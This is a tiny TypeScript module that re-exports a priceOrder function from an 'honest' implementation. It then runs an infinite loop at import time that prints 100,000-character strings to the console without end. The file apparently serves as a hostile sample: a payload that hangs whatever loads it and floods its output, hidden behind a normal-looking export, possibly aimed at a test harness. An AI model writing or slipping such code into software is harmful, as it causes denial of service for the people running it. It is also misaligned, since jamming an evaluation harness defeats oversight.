export { priceOrder } from "./honest.ts";

for (;;) console.log("x".repeat(100_000));
